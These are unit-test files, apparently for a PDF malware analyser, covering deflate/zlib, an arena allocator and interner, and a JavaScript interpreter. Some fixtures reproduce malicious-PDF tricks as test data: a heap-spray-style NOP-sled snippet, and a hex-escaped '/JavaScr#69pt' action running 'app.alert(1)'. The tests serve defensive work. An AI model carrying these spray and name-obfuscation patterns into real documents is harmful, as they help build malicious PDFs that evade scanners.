  fl::BitReader r(data);
  EXPECT_EQ(r.read_bits(3), 0b100u);
  EXPECT_EQ(r.read_bits(5), 0b10110u);
  EXPECT_EQ(r.read_bits(8), 1u);
  EXPECT_THROW(r.read_bits(1), sp::DecodeError);
}

TEST(BitStream, WriterReaderRoundTrip) {
  fl::BitWriter w;
  w.write_bits(0b101, 3);
  w.write_bits(0xABCD, 16);
  w.write_bits(1, 1);
  sp::Bytes buf = w.take();
  fl::BitReader r(buf);
  EXPECT_EQ(r.read_bits(3), 0b101u);
  EXPECT_EQ(r.read_bits(16), 0xABCDu);
  EXPECT_EQ(r.read_bits(1), 1u);
}

TEST(BitStream, AlignedBytesAfterBits) {
  fl::BitWriter w;
  w.write_bits(1, 1);
  w.align_to_byte();
  w.write_aligned_bytes(sp::to_bytes("xyz"));
  sp::Bytes buf = w.take();
  fl::BitReader r(buf);
  r.read_bits(1);
  EXPECT_EQ(sp::to_string(r.read_aligned_bytes(3)), "xyz");
}

TEST(Huffman, DecodesHandBuiltCode) {
  // Symbols 0,1 get 1-bit-ish canonical lengths {1,2,3,3}.
  std::vector<std::uint8_t> lens = {1, 2, 3, 3};
  fl::HuffmanDecoder dec(lens);
  auto codes = fl::assign_canonical_codes(lens);
  for (int sym = 0; sym < 4; ++sym) {
    fl::BitWriter w;
    w.write_huffman_code(codes[static_cast<std::size_t>(sym)].code,
                         codes[static_cast<std::size_t>(sym)].length);
    sp::Bytes buf = w.take();
    fl::BitReader r(buf);
    EXPECT_EQ(dec.decode(r), sym);
  }
}

TEST(Huffman, RejectsOversubscribedCode) {
  std::vector<std::uint8_t> bad = {1, 1, 1};
  EXPECT_THROW(fl::HuffmanDecoder dec(bad), sp::DecodeError);
}

TEST(Huffman, CanonicalCodesArePrefixFree) {
  std::vector<std::uint8_t> lens = {3, 3, 3, 3, 3, 2, 4, 4};
  auto codes = fl::assign_canonical_codes(lens);
  for (std::size_t a = 0; a < codes.size(); ++a) {
    for (std::size_t b = 0; b < codes.size(); ++b) {
      if (a == b) continue;
      const auto& ca = codes[a];
      const auto& cb = codes[b];
      if (ca.length > cb.length) continue;
      // ca must not be a prefix of cb.
      EXPECT_NE(ca.code, cb.code >> (cb.length - ca.length))
          << "symbol " << a << " prefixes symbol " << b;
    }
  }
}

TEST(Deflate, StoredRoundTrip) {
  const sp::Bytes data = sp::to_bytes("hello stored world");
  sp::Bytes c = fl::deflate(data, fl::DeflateStrategy::kStored);
  EXPECT_EQ(fl::inflate(c), data);
}

TEST(Deflate, StoredEmptyInput) {
  sp::Bytes c = fl::deflate({}, fl::DeflateStrategy::kStored);
  EXPECT_TRUE(fl::inflate(c).empty());
}

TEST(Deflate, StoredLargeInputSpansMultipleBlocks) {
  sp::Rng rng(11);
  sp::Bytes data = rng.bytes(200000);  // > 3 stored blocks
  sp::Bytes c = fl::deflate(data, fl::DeflateStrategy::kStored);
  EXPECT_EQ(fl::inflate(c), data);
}

TEST(Deflate, FixedRoundTripText) {
  const sp::Bytes data = sp::to_bytes(
      "function payload() { var s = unescape('%u9090%u9090'); while (s.length"
      " < 0x40000) s += s; return s; } payload(); payload(); payload();");
  sp::Bytes c = fl::deflate(data, fl::DeflateStrategy::kFixedHuffman);
  EXPECT_EQ(fl::inflate(c), data);
  // Repetitive text must actually compress.
  EXPECT_LT(c.size(), data.size());
}

TEST(Deflate, FixedRoundTripEmpty) {
  sp::Bytes c = fl::deflate({}, fl::DeflateStrategy::kFixedHuffman);
  EXPECT_TRUE(fl::inflate(c).empty());
}

TEST(Deflate, FixedHighlyRepetitiveCompressesHard) {
  sp::Bytes data(50000, static_cast<std::uint8_t>('A'));
  sp::Bytes c = fl::deflate(data);
  EXPECT_EQ(fl::inflate(c), data);
  EXPECT_LT(c.size(), data.size() / 50);
}

TEST(Inflate, RejectsReservedBlockType) {
  // First byte: BFINAL=1, BTYPE=3 (reserved).
  sp::Bytes bad = {0x07};
  EXPECT_THROW(fl::inflate(bad), sp::DecodeError);
}

TEST(Inflate, RejectsTruncatedStream) {
  sp::Bytes data = sp::to_bytes("some reasonably long test payload data");
  sp::Bytes c = fl::deflate(data);
  c.resize(c.size() / 2);
  EXPECT_THROW(fl::inflate(c), sp::DecodeError);
}

TEST(Inflate, EnforcesOutputLimit) {
  sp::Bytes data(10000, static_cast<std::uint8_t>('B'));
  sp::Bytes c = fl::deflate(data);
  EXPECT_THROW(fl::inflate(c, 100), sp::DecodeError);
}

TEST(Zlib, RoundTripAndHeader) {
  const sp::Bytes data = sp::to_bytes("zlib container payload");
  sp::Bytes z = fl::zlib_compress(data);
  ASSERT_GE(z.size(), 6u);
  EXPECT_EQ(z[0] & 0x0f, 8);  // deflate method
  EXPECT_EQ((static_cast<unsigned>(z[0]) * 256 + z[1]) % 31, 0u);
  EXPECT_EQ(fl::zlib_decompress(z), data);
}

TEST(Zlib, DetectsCorruptedChecksum) {
  sp::Bytes z = fl::zlib_compress(sp::to_bytes("checksum me"));
  z.back() ^= 0xff;
  EXPECT_THROW(fl::zlib_decompress(z), sp::DecodeError);
}

TEST(Zlib, DetectsBadHeader) {
  sp::Bytes z = fl::zlib_compress(sp::to_bytes("data"));
  z[0] = 0x00;
  EXPECT_THROW(fl::zlib_decompress(z), sp::DecodeError);
}

TEST(Zlib, RejectsTooShortStream) {
  sp::Bytes z = {0x78, 0x9c, 0x03};
  EXPECT_THROW(fl::zlib_decompress(z), sp::DecodeError);
}

// ---------------------------------------------------------------------------
// Property sweep: random buffers of varying size and entropy round-trip
// through every strategy and the zlib container.
// ---------------------------------------------------------------------------

struct FlateCase {
  std::size_t size;
  int alphabet;  // number of distinct byte values (entropy knob)
};

class FlateRoundTrip : public ::testing::TestWithParam<FlateCase> {};

TEST_P(FlateRoundTrip, AllStrategiesRoundTrip) {
  const auto& p = GetParam();
  sp::Rng rng(0x5eedu + p.size * 31 + static_cast<unsigned>(p.alphabet));
  sp::Bytes data(p.size);
  for (auto& b : data) {
    b = static_cast<std::uint8_t>(rng.below(static_cast<std::uint64_t>(p.alphabet)));
  }
  for (auto strat : {fl::DeflateStrategy::kStored, fl::DeflateStrategy::kFixedHuffman}) {
    sp::Bytes c = fl::deflate(data, strat);
    EXPECT_EQ(fl::inflate(c), data);
  }
  EXPECT_EQ(fl::zlib_decompress(fl::zlib_compress(data)), data);
}

INSTANTIATE_TEST_SUITE_P(
    Sizes, FlateRoundTrip,
    ::testing::Values(FlateCase{0, 1}, FlateCase{1, 256}, FlateCase{2, 2},
                      FlateCase{3, 256}, FlateCase{17, 4}, FlateCase{256, 256},
                      FlateCase{1000, 2}, FlateCase{4096, 16},
                      FlateCase{65535, 256}, FlateCase{65536, 3},
                      FlateCase{70000, 64}, FlateCase{120000, 8}));
