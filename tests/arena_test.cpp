// Arena / interner / CowBytes unit tests: the memory-architecture
// contracts everything in the borrowed object model leans on — chunked
// growth, reset-and-reuse, stable interned names, and the copy-detaches
// rule that lets plain Object/Document copies outlive their arena.
#include <gtest/gtest.h>

#include <cstdint>
#include <cstring>
#include <memory>
#include <new>
#include <optional>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

#include "pdf/document.hpp"
#include "pdf/object.hpp"
#include "pdf/parser.hpp"
#include "support/arena.hpp"
#include "support/cow_bytes.hpp"
#include "support/interner.hpp"

namespace sp = pdfshield::support;
namespace pd = pdfshield::pdf;

// Mirror the arena's own ASan detection: the use-after-reset fill pattern
// check below only applies to non-sanitized debug builds.
#if defined(__SANITIZE_ADDRESS__)
#define ARENA_TEST_ASAN 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define ARENA_TEST_ASAN 1
#endif
#endif

TEST(Arena, BumpAllocatesDistinctWritableRegions) {
  sp::Arena arena;
  auto* a = static_cast<char*>(arena.allocate(16, 1));
  auto* b = static_cast<char*>(arena.allocate(16, 1));
  ASSERT_NE(a, nullptr);
  ASSERT_NE(b, nullptr);
  EXPECT_NE(a, b);
  std::memset(a, 'a', 16);
  std::memset(b, 'b', 16);
  EXPECT_EQ(a[15], 'a');  // b's fill must not bleed into a
  EXPECT_GE(arena.bytes_used(), 32u);
}

TEST(Arena, RespectsAlignment) {
  sp::Arena arena;
  arena.allocate(1, 1);  // knock the cursor off natural alignment
  void* p = arena.allocate(8, 8);
  EXPECT_EQ(reinterpret_cast<std::uintptr_t>(p) % 8, 0u);
  void* q = arena.allocate(64, 64);
  EXPECT_EQ(reinterpret_cast<std::uintptr_t>(q) % 64, 0u);
}

TEST(Arena, GrowsByDoublingChunks) {
  sp::Arena arena(/*first_chunk=*/64);
  EXPECT_EQ(arena.chunk_count(), 0u);
  arena.allocate(32, 1);
  EXPECT_EQ(arena.chunk_count(), 1u);
  // Overflow the 64-byte chunk: a second (128-byte) chunk appears.
  arena.allocate(64, 1);
  EXPECT_EQ(arena.chunk_count(), 2u);
  EXPECT_EQ(arena.bytes_reserved(), 64u + 128u);
  EXPECT_EQ(arena.chunk_allocations(), 2u);
}

TEST(Arena, OversizeRequestGetsDedicatedChunk) {
  sp::Arena arena(/*first_chunk=*/64);
  auto* p = static_cast<char*>(arena.allocate(10'000, 1));
  ASSERT_NE(p, nullptr);
  std::memset(p, 'x', 10'000);
  EXPECT_GE(arena.bytes_reserved(), 10'000u);
}

TEST(Arena, ResetRetainsChunksAndReplaysThem) {
  sp::Arena arena(/*first_chunk=*/64);
  std::vector<void*> first_pass;
  for (int i = 0; i < 8; ++i) first_pass.push_back(arena.allocate(48, 8));
  const std::uint64_t chunk_allocs = arena.chunk_allocations();
  const std::size_t reserved = arena.bytes_reserved();
  const std::size_t used = arena.bytes_used();

  arena.reset();
  EXPECT_EQ(arena.bytes_used(), 0u);
  EXPECT_EQ(arena.high_water(), used);
  EXPECT_EQ(arena.resets(), 1u);
  // Retained capacity: nothing was released...
  EXPECT_EQ(arena.bytes_reserved(), reserved);

  // ...and the identical allocation pattern replays the identical chunk
  // sequence without a single new chunk allocation.
  std::vector<void*> second_pass;
  for (int i = 0; i < 8; ++i) second_pass.push_back(arena.allocate(48, 8));
  EXPECT_EQ(arena.chunk_allocations(), chunk_allocs);
  EXPECT_EQ(first_pass, second_pass);
  EXPECT_EQ(arena.bytes_used(), used);
}

TEST(Arena, RejectsOverflowingRequests) {
  // A near-SIZE_MAX request must not wrap the bounds arithmetic and hand
  // back a pointer claiming gigabytes; the allocator sees attacker-derived
  // sizes, so this fails loudly instead.
  sp::Arena arena;
  EXPECT_THROW(arena.allocate(SIZE_MAX, 1), std::bad_alloc);
  EXPECT_THROW(arena.allocate(SIZE_MAX - 4, 8), std::bad_alloc);
}

TEST(Arena, ResetReleasesCapacityBeyondRetentionBudget) {
  sp::Arena arena(/*first_chunk=*/64);
  arena.allocate(32, 1);  // ordinary chunk, well within the budget
  // One pathological document mints an oversized dedicated chunk...
  arena.allocate(sp::Arena::kMaxRetainedBytes + 1, 1);
  EXPECT_GT(arena.bytes_reserved(), sp::Arena::kMaxRetainedBytes);
  // ...which reset() must hand back instead of bloating the reusable
  // worker arena for the rest of the process lifetime.
  arena.reset();
  EXPECT_LE(arena.bytes_reserved(), sp::Arena::kMaxRetainedBytes);
  EXPECT_EQ(arena.chunk_count(), 1u);  // the ordinary chunk is retained
  // The retained chunk still serves the next document.
  auto* p = static_cast<char*>(arena.allocate(32, 1));
  std::memset(p, 'x', 32);
  EXPECT_EQ(arena.chunk_count(), 1u);
}

TEST(Arena, HighWaterTracksLargestPass) {
  sp::Arena arena;
  arena.allocate(100, 1);
  arena.reset();
  arena.allocate(5'000, 1);
  const std::size_t big = arena.bytes_used();
  arena.reset();
  arena.allocate(10, 1);
  EXPECT_GE(arena.high_water(), big);
  EXPECT_LT(arena.bytes_used(), big);
}

TEST(Arena, CopyStringAndBytesMakeStableCopies) {
  sp::Arena arena;
  std::string source = "JavaScript";
  const std::string_view copy = arena.copy_string(source);
  sp::Bytes bytes_source = {1, 2, 3, 4};
  const sp::BytesView bytes_copy = arena.copy_bytes(bytes_source);
  // Mutating the originals must not affect the arena copies.
  source.assign("clobbered!");
  bytes_source.assign({9, 9, 9, 9});
  EXPECT_EQ(copy, "JavaScript");
  EXPECT_EQ(bytes_copy[0], 1);
  EXPECT_EQ(bytes_copy[3], 4);
  EXPECT_TRUE(arena.copy_string("").empty());
  EXPECT_TRUE(arena.copy_bytes({}).empty());
}

#if !defined(ARENA_TEST_ASAN) && !defined(NDEBUG)
TEST(Arena, UseAfterResetReadsDeterministicFillPattern) {
  sp::Arena arena;
  auto* p = static_cast<unsigned char*>(arena.allocate(16, 1));
  std::memset(p, 0x42, 16);
  arena.reset();
  // By contract this read is a bug in the caller; the debug fill makes it
  // a deterministic 0xDD instead of the previous document's bytes.
  EXPECT_EQ(p[0], 0xDD);
  EXPECT_EQ(p[15], 0xDD);
}
#endif

TEST(Interner, ReturnsStableDeduplicatedViews) {
  sp::StringInterner interner;
  const std::string_view a = interner.intern("OpenAction");
  const std::string_view b = interner.intern(std::string("OpenAction"));
  EXPECT_EQ(a.data(), b.data());  // same storage, not just equal content
  EXPECT_EQ(a, "OpenAction");
  EXPECT_EQ(interner.size(), 1u);
  const std::string_view c = interner.intern("AA");
  EXPECT_NE(c.data(), a.data());
  EXPECT_EQ(interner.size(), 2u);
  EXPECT_TRUE(interner.intern("").empty());
  EXPECT_EQ(interner.size(), 2u);
}

TEST(Interner, StableInternStopsGrowingAtCap) {
  // The table is process-lifetime and fed attacker-chosen spellings, so
  // intern_stable must stop inserting at the cap and hand the caller's own
  // (document-stable) storage back instead of growing without bound.
  sp::StringInterner interner;
  for (std::size_t i = 0; i < sp::StringInterner::kMaxEntries; ++i) {
    interner.intern_stable("name-" + std::to_string(i));
  }
  ASSERT_EQ(interner.size(), sp::StringInterner::kMaxEntries);

  const std::string novel = "novel-spelling-beyond-the-cap";
  const std::string_view overflow = interner.intern_stable(novel);
  EXPECT_EQ(overflow.data(), novel.data());  // pass-through, not a copy
  EXPECT_EQ(interner.size(), sp::StringInterner::kMaxEntries);

  // Hits keep resolving to the table's storage even at capacity.
  const std::string lookup = "name-0";
  const std::string_view hit = interner.intern_stable(lookup);
  EXPECT_EQ(hit, "name-0");
  EXPECT_NE(hit.data(), lookup.data());

  // The trusted path still serves the program's own finite vocabulary.
  const std::string_view trusted = interner.intern("ProgramVocabulary");
  EXPECT_EQ(trusted, "ProgramVocabulary");
  EXPECT_EQ(interner.size(), sp::StringInterner::kMaxEntries + 1);
}

TEST(Interner, IsThreadSafeUnderContention) {
  sp::StringInterner interner;
  constexpr int kThreads = 4;
  constexpr int kNames = 64;
  std::vector<std::vector<std::string_view>> seen(kThreads);
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      for (int round = 0; round < 50; ++round) {
        for (int i = 0; i < kNames; ++i) {
          const std::string name = "Name" + std::to_string(i);
          const std::string_view v = interner.intern(name);
          if (round == 0) seen[t].push_back(v);
        }
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(interner.size(), static_cast<std::size_t>(kNames));
  // Every thread resolved every name to the same storage.
  for (int t = 1; t < kThreads; ++t) {
    for (int i = 0; i < kNames; ++i) {
      EXPECT_EQ(seen[t][i].data(), seen[0][i].data());
    }
  }
}

TEST(CowBytes, BorrowSharesStorageAndCopyDetaches) {
  const sp::Bytes backing = {10, 20, 30};
  const sp::CowBytes borrowed = sp::CowBytes::borrow(backing);
  EXPECT_TRUE(borrowed.borrowed());
  EXPECT_EQ(borrowed.data(), backing.data());

  const sp::CowBytes copy = borrowed;  // NOLINT(performance-unnecessary-copy-initialization)
  EXPECT_FALSE(copy.borrowed());
  EXPECT_NE(copy.data(), backing.data());
  EXPECT_EQ(copy, backing);

  sp::CowBytes moved = std::move(const_cast<sp::CowBytes&>(borrowed));
  EXPECT_TRUE(moved.borrowed());  // moves preserve the borrow
  EXPECT_EQ(moved.data(), backing.data());
}

TEST(CowBytes, AssignFromBorrowAliasingOwnStorageIsSafe) {
  // `alias` borrows cow's own owned buffer; assigning it back must
  // materialize through a temporary rather than read the vector being
  // overwritten.
  sp::CowBytes cow{sp::Bytes{1, 2, 3, 4, 5}};
  const sp::CowBytes alias = sp::CowBytes::borrow(cow.view());
  cow = alias;
  EXPECT_FALSE(cow.borrowed());
  EXPECT_EQ(cow, sp::Bytes({1, 2, 3, 4, 5}));
}

TEST(CowBytes, OwnedMaterializesOnFirstWrite) {
  const sp::Bytes backing = {1, 2, 3};
  sp::CowBytes cow = sp::CowBytes::borrow(backing);
  sp::Bytes& mine = cow.owned();
  EXPECT_FALSE(cow.borrowed());
  EXPECT_NE(mine.data(), backing.data());
  mine[0] = 99;
  EXPECT_EQ(cow[0], 99);
  EXPECT_EQ(backing[0], 1);  // the original is untouched
}

TEST(RefHash, UnorderedMapsWorkAndDistinguishNumFromGen) {
  const pd::Ref a{3, 0};
  const pd::Ref b{0, 3};  // swapped fields must not collide by construction
  EXPECT_NE(std::hash<pd::Ref>{}(a), std::hash<pd::Ref>{}(b));
  std::unordered_map<pd::Ref, int> map;
  map[a] = 1;
  map[b] = 2;
  map[pd::Ref{3, 0}] = 3;  // same key as `a`
  EXPECT_EQ(map.size(), 2u);
  EXPECT_EQ(map[a], 3);
  EXPECT_EQ(map[b], 2);
}

namespace {

std::string minimal_pdf() {
  return "%PDF-1.7\n"
         "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
         "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
         "3 0 obj\n<< /S /JavaScr#69pt /JS (app.alert\\(1\\)) >>\nendobj\n"
         "4 0 obj\n<< /Length 11 >>\nstream\nhello world\nendstream\nendobj\n"
         "trailer\n<< /Root 1 0 R /Size 5 >>\n"
         "startxref\n0\n%%EOF\n";
}

}  // namespace

TEST(DocumentArena, CopyDetachesAndOutlivesTheArena) {
  const sp::Bytes data = sp::to_bytes(minimal_pdf());
  auto arena = std::make_shared<sp::Arena>();
  std::optional<pd::Document> parsed(pd::parse_document(data, nullptr, arena));
  ASSERT_EQ(parsed->arena(), arena);
  EXPECT_GT(arena->bytes_used(), 0u);

  pd::Document detached = *parsed;  // plain copy: owns everything
  EXPECT_EQ(detached.arena(), nullptr);

  // Destroy the parsed document and wipe the arena; the copy must still
  // read correctly — names, hex-escaped raw spellings, string and stream
  // payloads included.
  parsed.reset();
  arena->reset();
  const pd::Object* js = detached.object(pd::Ref{3, 0});
  ASSERT_NE(js, nullptr);
  const pd::Object* s = js->as_dict().find("S");
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->as_name().value, "JavaScript");
  EXPECT_TRUE(s->as_name().has_hex_escape());
  const pd::Object* payload = js->as_dict().find("JS");
  ASSERT_NE(payload, nullptr);
  EXPECT_EQ(sp::as_view(payload->as_string().data.view()), "app.alert(1)");
  const pd::Object* stream = detached.object(pd::Ref{4, 0});
  ASSERT_NE(stream, nullptr);
  EXPECT_EQ(sp::as_view(stream->as_stream().data.view()), "hello world");
}

TEST(DocumentArena, ReuseAcrossDocumentsAddsNoChunksAfterWarmup) {
  const sp::Bytes data = sp::to_bytes(minimal_pdf());
  auto arena = std::make_shared<sp::Arena>();
  { pd::Document doc = pd::parse_document(data, nullptr, arena); }
  arena->reset();
  const std::uint64_t warm_chunks = arena->chunk_allocations();
  std::size_t pass_bytes = 0;
  for (int i = 0; i < 3; ++i) {
    { pd::Document doc = pd::parse_document(data, nullptr, arena); }
    if (i == 0) {
      pass_bytes = arena->bytes_used();
    } else {
      EXPECT_EQ(arena->bytes_used(), pass_bytes);  // deterministic footprint
    }
    arena->reset();
  }
  EXPECT_EQ(arena->chunk_allocations(), warm_chunks);
}
