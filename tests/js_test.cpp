// Tests for the embedded Javascript engine: lexer, parser, interpreter
// semantics, builtins, eval, allocation metering, step limits.
#include <gtest/gtest.h>

#include "js/interp.hpp"
#include "js/lexer.hpp"
#include "js/parser.hpp"
#include "support/error.hpp"

namespace js = pdfshield::js;
namespace sp = pdfshield::support;

namespace {

// Runs a script and returns the value of global `result`.
js::Value run_for_result(const std::string& src) {
  js::Interpreter in;
  in.run_source(src);
  js::Value* v = in.globals()->lookup("result");
  return v ? *v : js::Value();
}

double run_number(const std::string& src) {
  const js::Value v = run_for_result(src);
  EXPECT_TRUE(v.is_number()) << src;
  return v.is_number() ? v.as_number() : 0;
}

std::string run_string(const std::string& src) {
  const js::Value v = run_for_result(src);
  EXPECT_TRUE(v.is_string()) << src;
  return v.is_string() ? v.as_string() : "";
}

bool run_bool(const std::string& src) {
  const js::Value v = run_for_result(src);
  EXPECT_TRUE(v.is_bool()) << src;
  return v.is_bool() && v.as_bool();
}

}  // namespace

// ---------------------------------------------------------------------------
// Lexer
// ---------------------------------------------------------------------------

TEST(JsLexer, NumbersDecimalHexFloatExponent) {
  auto toks = js::tokenize_js("42 0x1F 3.5 1e3 .25");
  ASSERT_GE(toks.size(), 5u);
  EXPECT_DOUBLE_EQ(toks[0].number, 42);
  EXPECT_DOUBLE_EQ(toks[1].number, 31);
  EXPECT_DOUBLE_EQ(toks[2].number, 3.5);
  EXPECT_DOUBLE_EQ(toks[3].number, 1000);
  EXPECT_DOUBLE_EQ(toks[4].number, 0.25);
}

TEST(JsLexer, StringEscapes) {
  auto toks = js::tokenize_js(R"('a\n\t\x41' "qB")");
  EXPECT_EQ(toks[0].text, "a\n\tA");
  EXPECT_EQ(toks[1].text, "qB");
}

TEST(JsLexer, UnicodeEscapeAbove255IsTwoBytesLE) {
  auto toks = js::tokenize_js("'\\u9090'");
  EXPECT_EQ(toks[0].text, std::string("\x90\x90"));
}

TEST(JsLexer, CommentsSkipped) {
  auto toks = js::tokenize_js("1 // line\n /* block\nmore */ 2");
  EXPECT_DOUBLE_EQ(toks[0].number, 1);
  EXPECT_DOUBLE_EQ(toks[1].number, 2);
  EXPECT_EQ(toks[2].kind, js::JsTokenKind::kEof);
}

TEST(JsLexer, MaximalMunchOperators) {
  auto toks = js::tokenize_js("a===b !== c >>> 2 <<= 1");
  EXPECT_EQ(toks[1].text, "===");
  EXPECT_EQ(toks[3].text, "!==");
  EXPECT_EQ(toks[5].text, ">>>");
  EXPECT_EQ(toks[7].text, "<<=");
}

TEST(JsLexer, ThrowsOnUnterminatedString) {
  EXPECT_THROW(js::tokenize_js("'abc"), sp::ParseError);
  EXPECT_THROW(js::tokenize_js("\"abc\ndef\""), sp::ParseError);
}

TEST(JsLexer, ErrorsCarrySourceOffset) {
  try {
    js::tokenize_js("var ok = 1; 'abc");
    FAIL() << "expected ParseError";
  } catch (const sp::ParseError& e) {
    EXPECT_NE(std::string(e.what()).find("offset 12"), std::string::npos)
        << e.what();
  }
}

TEST(JsParser, ErrorsCarryLineAndOffset) {
  // The offending token is the ';' at byte 8.
  try {
    js::parse_js("var x = ;");
    FAIL() << "expected ParseError";
  } catch (const sp::ParseError& e) {
    const std::string msg = e.what();
    EXPECT_NE(msg.find("line 1"), std::string::npos) << msg;
    EXPECT_NE(msg.find("offset 8"), std::string::npos) << msg;
  }
  // Line numbers advance with the source.
  try {
    js::parse_js("var a = 1;\nvar b = ;");
    FAIL() << "expected ParseError";
  } catch (const sp::ParseError& e) {
    EXPECT_NE(std::string(e.what()).find("line 2"), std::string::npos)
        << e.what();
  }
}

// ---------------------------------------------------------------------------
// Core semantics
// ---------------------------------------------------------------------------

TEST(JsInterp, ArithmeticAndPrecedence) {
  EXPECT_DOUBLE_EQ(run_number("var result = 2 + 3 * 4;"), 14);
  EXPECT_DOUBLE_EQ(run_number("var result = (2 + 3) * 4;"), 20);
  EXPECT_DOUBLE_EQ(run_number("var result = 7 % 3;"), 1);
  EXPECT_DOUBLE_EQ(run_number("var result = 10 / 4;"), 2.5);
  EXPECT_DOUBLE_EQ(run_number("var result = -3 + +2;"), -1);
}

TEST(JsInterp, StringConcatenation) {
  EXPECT_EQ(run_string("var result = 'a' + 'b' + 1;"), "ab1");
  EXPECT_EQ(run_string("var result = 1 + 2 + 'x';"), "3x");
}

TEST(JsInterp, ComparisonAndEquality) {
  EXPECT_TRUE(run_bool("var result = 1 < 2;"));
  EXPECT_TRUE(run_bool("var result = 'abc' < 'abd';"));
  EXPECT_TRUE(run_bool("var result = '5' == 5;"));
  EXPECT_FALSE(run_bool("var result = '5' === 5;"));
  EXPECT_TRUE(run_bool("var result = null == undefined;"));
  EXPECT_FALSE(run_bool("var result = null === undefined;"));
}

TEST(JsInterp, BitwiseOps) {
  EXPECT_DOUBLE_EQ(run_number("var result = 0xF0 & 0x3C;"), 0x30);
  EXPECT_DOUBLE_EQ(run_number("var result = 1 << 8;"), 256);
  EXPECT_DOUBLE_EQ(run_number("var result = -1 >>> 28;"), 15);
  EXPECT_DOUBLE_EQ(run_number("var result = 5 ^ 3;"), 6);
  EXPECT_DOUBLE_EQ(run_number("var result = ~0;"), -1);
}

TEST(JsInterp, VariablesAndScopes) {
  EXPECT_DOUBLE_EQ(run_number("var x = 1; { var y = 2; x = x + y; } var result = x;"), 3);
  // Implicit global from assignment.
  EXPECT_DOUBLE_EQ(run_number("function f() { g = 9; } f(); var result = g;"), 9);
}

TEST(JsInterp, IfElseChains) {
  EXPECT_DOUBLE_EQ(
      run_number("var x = 5; var result; if (x > 10) result = 1; else if (x > 3)"
                 " result = 2; else result = 3;"),
      2);
}

TEST(JsInterp, WhileAndForLoops) {
  EXPECT_DOUBLE_EQ(run_number("var s = 0; for (var i = 1; i <= 10; i++) s += i;"
                              " var result = s;"),
                   55);
  EXPECT_DOUBLE_EQ(run_number("var s = 0; var i = 0; while (i < 5) { s += i; i++; }"
                              " var result = s;"),
                   10);
  EXPECT_DOUBLE_EQ(run_number("var s = 0; var i = 0; do { s++; i++; } while (i < 3);"
                              " var result = s;"),
                   3);
}

TEST(JsInterp, BreakAndContinue) {
  EXPECT_DOUBLE_EQ(
      run_number("var s = 0; for (var i = 0; i < 10; i++) { if (i == 5) break;"
                 " if (i % 2) continue; s += i; } var result = s;"),
      6);  // 0+2+4
}

TEST(JsInterp, ForInIteratesKeys) {
  EXPECT_EQ(run_string("var o = {a: 1, b: 2}; var keys = ''; for (var k in o)"
                       " keys += k; var result = keys;"),
            "ab");
}

TEST(JsInterp, FunctionsAndClosures) {
  EXPECT_DOUBLE_EQ(run_number("function add(a, b) { return a + b; }"
                              " var result = add(2, 3);"),
                   5);
  EXPECT_DOUBLE_EQ(
      run_number("function counter() { var n = 0; return function() { n++;"
                 " return n; }; } var c = counter(); c(); c();"
                 " var result = c();"),
      3);
  EXPECT_DOUBLE_EQ(run_number("var f = function(x) { return x * 2; };"
                              " var result = f(21);"),
                   42);
}

TEST(JsInterp, RecursionWorks) {
  EXPECT_DOUBLE_EQ(run_number("function fib(n) { return n < 2 ? n : fib(n-1) +"
                              " fib(n-2); } var result = fib(12);"),
                   144);
}

TEST(JsInterp, ArgumentsObject) {
  EXPECT_DOUBLE_EQ(run_number("function f() { return arguments.length; }"
                              " var result = f(1, 2, 3);"),
                   3);
}

TEST(JsInterp, ObjectsAndMembers) {
  EXPECT_DOUBLE_EQ(run_number("var o = {x: 1}; o.y = 2; o['z'] = 3;"
                              " var result = o.x + o.y + o.z;"),
                   6);
  EXPECT_TRUE(run_bool("var o = {a: 1}; delete o.a; var result = !('a' in o);"));
}

TEST(JsInterp, ThisBindingInMethods) {
  EXPECT_DOUBLE_EQ(run_number("var o = {v: 7, get: function() { return this.v; }};"
                              " var result = o.get();"),
                   7);
}

TEST(JsInterp, NewCreatesObjects) {
  EXPECT_DOUBLE_EQ(run_number("function Point(x) { this.x = x; }"
                              " var p = new Point(4); var result = p.x;"),
                   4);
}

TEST(JsInterp, ArraysBasics) {
  EXPECT_DOUBLE_EQ(run_number("var a = [1, 2, 3]; var result = a.length;"), 3);
  EXPECT_DOUBLE_EQ(run_number("var a = []; a[5] = 1; var result = a.length;"), 6);
  EXPECT_DOUBLE_EQ(run_number("var a = [1,2]; a.push(3, 4);"
                              " var result = a.length + a[3];"),
                   8);
  EXPECT_EQ(run_string("var result = [1,2,3].join('-');"), "1-2-3");
}

TEST(JsInterp, TryCatchFinallyAndThrow) {
  EXPECT_EQ(run_string("var result; try { throw 'boom'; } catch (e) { result ="
                       " e; }"),
            "boom");
  EXPECT_DOUBLE_EQ(run_number("var n = 0; try { n = 1; } finally { n += 10; }"
                              " var result = n;"),
                   11);
  EXPECT_DOUBLE_EQ(
      run_number("var n = 0; try { try { throw 1; } finally { n += 5; } }"
                 " catch (e) { n += e; } var result = n;"),
      6);
}

TEST(JsInterp, UncaughtThrowSurfacesAsJsException) {
  js::Interpreter in;
  EXPECT_THROW(in.run_source("throw 'fatal';"), js::JsException);
}

TEST(JsInterp, SwitchMatchingAndFallthrough) {
  EXPECT_DOUBLE_EQ(run_number("var n = 0; switch (2) { case 1: n += 1;"
                              " case 2: n += 2; case 3: n += 3; break;"
                              " default: n += 100; } var result = n;"),
                   5);
  EXPECT_DOUBLE_EQ(run_number("var n = 0; switch (9) { case 1: n = 1; break;"
                              " default: n = 42; } var result = n;"),
                   42);
}

TEST(JsInterp, TypeofAndUndeclared) {
  EXPECT_EQ(run_string("var result = typeof 5;"), "number");
  EXPECT_EQ(run_string("var result = typeof 'x';"), "string");
  EXPECT_EQ(run_string("var result = typeof {};"), "object");
  EXPECT_EQ(run_string("var result = typeof function(){};"), "function");
  EXPECT_EQ(run_string("var result = typeof never_declared_anywhere;"), "undefined");
}

TEST(JsInterp, TernaryAndLogical) {
  EXPECT_DOUBLE_EQ(run_number("var result = 1 ? 2 : 3;"), 2);
  EXPECT_DOUBLE_EQ(run_number("var result = 0 || 7;"), 7);
  EXPECT_DOUBLE_EQ(run_number("var result = 3 && 8;"), 8);
  // Short-circuit: rhs must not run.
